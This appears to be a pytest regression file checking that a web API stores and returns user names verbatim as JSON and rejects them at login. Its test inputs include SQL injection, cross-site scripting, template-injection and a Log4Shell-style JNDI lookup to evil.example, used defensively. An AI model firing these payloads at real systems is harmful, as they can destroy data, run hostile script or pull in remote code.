"""27: "injection detection" by patterns refused honest requests and let attacks through.

Here text is text: it comes back as it was sent, in JSON that no browser takes for a page, and no query is built of it.
"""

import pytest
from sqlalchemy import text

NAMES = [
    "José Ñandú",
    "Siobhan O'Brien",
    'Robert\'); DROP TABLE "user";--',
    "<script>alert(1)</script>",
    "1 OR 1=1 /* union select */",
    "${jndi:ldap://evil.example/a} {{7*7}} %s %(name)s",
]


@pytest.mark.parametrize("name", NAMES)
async def test_text_is_text(client, login, clean_database, name):
    headers = {"Authorization": f"Bearer {(await login())['access_token']}", "Accept": "*/*"}
    headers["User-Agent"] = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
    answer = await client.patch("/api/v1/users/ani", json={"name": name}, headers=headers)
    assert answer.status_code == 200, answer.text
    read = await client.get("/api/v1/users/me", headers=headers)
    assert read.json()["name"] == name
    assert read.headers["content-type"] == "application/json"
    assert read.headers["x-content-type-options"] == "nosniff"
    async with clean_database.read_session() as session:
        assert await session.scalar(text('SELECT count(*) FROM "user"')) == 1


@pytest.mark.parametrize("name", NAMES)
async def test_credentials_are_text(client, ani, name):
    answer = await client.post("/api/v1/login", json={"username": name, "password": name})
    assert answer.status_code == 401
